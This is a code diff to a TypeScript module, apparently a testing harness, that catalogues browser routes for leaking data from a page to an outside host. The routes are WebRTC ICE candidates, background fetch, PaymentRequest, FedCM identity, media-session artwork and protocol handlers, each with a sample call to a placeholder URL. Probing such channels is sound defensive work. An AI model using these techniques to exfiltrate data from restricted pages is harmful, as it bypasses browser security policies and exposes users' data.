@@ -1,6 +1,8 @@
-import { missing, noWord, type Channel, type Outcome } from './channel.ts';
+import { fetchInBackground } from './fetch-in-background.ts';
+import { missing, noWord, type Channel } from './channel.ts';
+import { gather, knock } from './peer-tries.ts';
 import { succeeded } from './request-channels.ts';
-import { wait } from './stage.ts';
+import { showInPlayer } from './show-in-player.ts';
 
 /** Ways out that only a page has: direct lines to other devices, and what the browser fetches on its behalf. */
 export const lineChannels: readonly Channel[] = [
@@ -29,38 +31,44 @@ export const lineChannels: readonly Channel[] = [
       await gather({ urls: `turn:${host}?transport=tcp`, username: secret, credential: secret }),
   },
   {
+    id: 'rtc-candidate',
+    words: 'knock at another device directly',
+    code: "peer.addIceCandidate('candidate … udp … $HOST … host')",
+    run: ({ host }) => knock(host),
+  },
+  {
     id: 'background-fetch',
     words: 'have the browser fetch in the background',
     code: "registration.backgroundFetch.fetch('leak', ['$URL'])",
-    run: async ({ url }) => {
-      const registration = (await navigator.serviceWorker?.getRegistration()) as unknown as
-        | { backgroundFetch?: { fetch(id: string, urls: string[]): Promise<{ abort(): unknown }> } }
-        | undefined;
-      if (!registration?.backgroundFetch) return missing;
-      const fetching = await registration.backgroundFetch.fetch(`leak-${Date.now()}`, [url]);
-      return succeeded(await fetching.abort());
-    },
+    run: ({ url }) => fetchInBackground(url),
   },
   {
     id: 'payment',
     words: 'ask a shop whether it takes payment',
-    code: "new PaymentRequest([{ supportedMethods: '$URL' }], total).canMakePayment()",
-    run: async ({ url }) => {
+    code: "new PaymentRequest([{ supportedMethods: '$HTTPS' }], total).canMakePayment()",
+    run: async ({ secureUrl }) => {
       if (typeof PaymentRequest === 'undefined') return missing;
       const total = { label: 'Nothing', amount: { currency: 'EUR', value: '0' } };
-      await new PaymentRequest([{ supportedMethods: url }], { total }).canMakePayment();
+      await new PaymentRequest([{ supportedMethods: secureUrl }], { total }).canMakePayment();
       return noWord;
     },
   },
   {
     id: 'identity',
     words: 'ask a stranger to sign one in',
-    code: "navigator.credentials.get({ identity: { providers: [{ configURL: '$URL' }] } })",
-    run: async ({ url }) => {
+    code: "navigator.credentials.get({ identity: { providers: [{ configURL: '$HTTPS' }] } })",
+    run: async ({ secureUrl }) => {
       if (!('IdentityCredential' in globalThis)) return missing;
-      const identity = { providers: [{ configURL: url, clientId: 'leak' }] };
+      const identity = { providers: [{ configURL: secureUrl, clientId: 'leak' }] };
       return succeeded(await navigator.credentials.get({ identity } as CredentialRequestOptions));
     },
+  },
+  {
+    id: 'media-session',
+    words: 'name a picture for the browser’s own player',
+    code: "navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: '$URL' }] })",
+    silentWall: 'policy',
+    run: ({ url }) => showInPlayer(url),
   },
   {
     id: 'protocol-handler',
@@ -74,20 +82,3 @@ export const lineChannels: readonly Channel[] = [
     },
   },
 ];
-
-/** Candidates of the kinds `srflx` and `relay` come from the stranger: then it was reached. */
-async function gather(server: RTCIceServer): Promise<Outcome> {
-  if (typeof RTCPeerConnection === 'undefined') return missing;
-  const peer = new RTCPeerConnection({ iceServers: [server] });
-  const reached = Promise.withResolvers<Outcome>();
-  peer.addEventListener('icecandidate', ({ candidate }) => {
-    if (candidate?.type === 'srflx' || candidate?.type === 'relay') reached.resolve({ kind: 'worked' });
-  });
-  try {
-    peer.createDataChannel('leak');
-    await peer.setLocalDescription(await peer.createOffer());
-    return await Promise.race([reached.promise, wait(400).then(() => noWord)]);
-  } finally {
-    peer.close();
-  }
-}
